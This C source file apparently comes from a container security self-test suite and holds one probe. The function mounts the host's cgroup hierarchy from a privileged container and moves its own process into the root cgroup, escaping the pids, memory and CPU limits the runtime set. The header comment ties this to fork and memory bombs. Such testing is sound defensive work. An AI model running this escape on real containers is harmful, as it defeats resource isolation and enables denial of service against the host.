/* Leaving the container's cgroup: with CAP_SYS_ADMIN (a privileged
 * container without a cgroup namespace) a process mounts the host's
 * cgroup hierarchy and moves itself into the host's root cgroup, out of
 * every limit the runtime set (pids, memory, CPU): the way a fork or
 * memory bomb gets past `--pids-limit` and `--memory`
 * (https://book.hacktricks.wiki/en/linux-hardening/privilege-escalation/docker-security/cgroups.html).
 * Mounts the pids hierarchy (cgroup v1) or the unified one (v2), writes
 * its own pid into the root's cgroup.procs and reads /proc/self/cgroup
 * back. */
#include "attack.h"

#include <fcntl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

int attack_cgroup_escape(void) {
    mkdir("/tmp/selftest-cgroup", 0700);
    if (mount("cgroup", "/tmp/selftest-cgroup", "cgroup", 0, "pids") < 0 &&
        mount("cgroup2", "/tmp/selftest-cgroup", "cgroup2", 0, NULL) < 0)
        BLOCKED_ERRNO("mount the host's cgroup hierarchy");
    int fd = open("/tmp/selftest-cgroup/cgroup.procs", O_WRONLY);
    if (fd < 0)
        BLOCKED_ERRNO("open the root cgroup.procs");
    char pid[32];
    snprintf(pid, sizeof pid, "%d", getpid());
    long w = write(fd, pid, strlen(pid));
    int e = errno;
    close(fd);
    umount2("/tmp/selftest-cgroup", MNT_DETACH);
    if (w < 0) {
        errno = e;
        BLOCKED_ERRNO("move itself into the root cgroup");
    }
    char cg[4096] = "";
    fd = open("/proc/self/cgroup", O_RDONLY);
    if (fd >= 0) {
        read_all(fd, cg, sizeof cg);
        close(fd);
    }
    const char *line = strstr(cg, ":pids:/\n");
    if (!line)
        line = strstr(cg, "0::/\n");
    if (!line)
        BLOCKED("the write was accepted but /proc/self/cgroup does not show the root");
    WORKED("moved itself into the host's root cgroup, out of the container's limits");
}
